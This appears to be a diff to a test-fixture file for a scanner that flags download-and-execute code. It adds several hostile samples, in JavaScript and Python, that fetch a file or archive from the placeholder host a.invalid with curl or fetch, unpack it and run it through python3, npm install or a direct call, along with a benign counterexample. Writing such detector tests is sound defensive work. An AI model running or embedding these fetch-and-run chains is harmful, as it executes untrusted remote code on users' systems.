@@ -24,6 +24,10 @@ _PIPES = (
     "exports.fetch = (url, kept) => new Promise((ok) => https.get(url, (reply) => {\n"
     "  reply.pipe(fs.createWriteStream(kept)).on('finish', () => ok(kept))\n}))\n"
 )
+_ARCHIVED = (
+    "const os = require('os'), path = require('path'), run = require('child_process')\n"
+    "const kept = path.join(os.tmpdir(), 'a'), home = os.homedir()\n"
+)
 _USES = "import os, subprocess, sys\nfrom fetching import fetch\n"
 _URL = "'https://a.invalid/a'"
 
@@ -59,6 +63,29 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "a temporary file by its number": _ran(_python(_NUMBERED, f"subprocess.run([fetch({_URL})])\n")),
         "a temporary file by its name": _ran(_python(_NAMED, f"subprocess.run([fetch({_URL})])\n")),
         "a stream, in JavaScript": _ran(_javascript("execFile(kept)"), ("app.js", 3)),
+        "an archive is fetched, unpacked and run by commands": js(
+            _ARCHIVED + 'run.exec(`curl -Lo "${kept}" https://a.invalid`, () => run.exec(`tar -xf "${kept}" -C "${home}'
+            "\"`,\n  () => run.exec('python3 \"' + path.join(home, '.a') + '\"')))\n",
+            line=4,
+        ),
+        "by lists of words": py(
+            "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/a.zip', 'https://a.invalid'])\n"
+            "subprocess.run(['unzip', '/tmp/a.zip', '-d', '/tmp/a'])\nsubprocess.run(['python3', '/tmp/a/b.py'])\n",
+            line=4,
+        ),
+        "it is moved before it is run": py(
+            "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/a', 'https://a.invalid'])\n"
+            "subprocess.run(['mv', '/tmp/a', '/tmp/b'])\nsubprocess.run(['/tmp/b'])\n",
+            line=4,
+        ),
+        "what was unpacked is built": js(
+            "const fs = require('fs'), { execSync } = require('child_process')\n"
+            "fetch('https://a.invalid').then(async (reply) => {\n"
+            "  fs.writeFileSync('/tmp/a.zip', Buffer.from(await reply.arrayBuffer()))\n"
+            "  execSync('unzip /tmp/a.zip -d /tmp/a')\n  execSync('npm i', { cwd: '/tmp/a' })\n})\n",
+            "review",
+            line=5,
+        ),
         "chunks that are joined": py(
             _CHUNKS + "    chunks.append(each)\nopen('/tmp/a', 'wb').write(b''.join(chunks))\n"
             "subprocess.run(['/tmp/a'])\n",
@@ -83,6 +110,11 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "what a helper was told to save is added": _python(
             _IS_TOLD, f"fetch({_URL}, '/tmp/a')\nsubprocess.run(['git', 'add', '/tmp/a'])\n"
         ),
+        "an archive is fetched and unpacked by commands, and something else is run": {
+            "app.js": _ARCHIVED
+            + 'run.exec(`curl -Lo "${kept}" https://a.invalid`, () => run.exec(`tar -xf "${kept}" -C data`,\n'
+            "  () => run.exec('python3 \"' + path.join(home, '.a') + '\"')))\n",
+        },
         "another file than the one that was saved": _python(
             _IS_TOLD, f"fetch({_URL}, '/tmp/a')\nsubprocess.run(['/tmp/b'])\n"
         ),
